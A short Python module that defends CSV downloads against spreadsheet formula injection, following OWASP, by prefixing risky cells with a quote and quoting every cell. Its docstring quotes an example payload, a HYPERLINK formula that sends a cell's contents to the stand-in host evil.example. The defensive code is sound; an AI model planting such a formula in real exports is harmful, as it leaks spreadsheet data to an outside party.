"""CSV downloads that a spreadsheet opens as text, never as formulas.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is
read by Excel, LibreOffice and Google Sheets as a formula, so a title such as
``=HYPERLINK("http://evil.example/?"&A1,"Bấm")`` would run in the reader's spreadsheet. As OWASP
recommends ("CSV Injection"), every such cell is prefixed with a single quote, which spreadsheets
read as "this is text" and do not show, and every cell is quoted, its quotes doubled (the csv
module's ``QUOTE_ALL``). Full-width ``＝＋－＠`` are treated alike: some spreadsheets fold them
into the ASCII signs.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def neutralised(cell: str) -> str:
    """``cell`` as a spreadsheet will show it as text, never run it."""
    return "'" + cell if cell.lstrip(" ").startswith(FORMULA_STARTS) else cell


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """The rows as CSV text (every cell quoted and neutralised), lines ended by CRLF."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL)
    for row in rows:
        writer.writerow([neutralised(str(cell)) for cell in row])
    return out.getvalue()
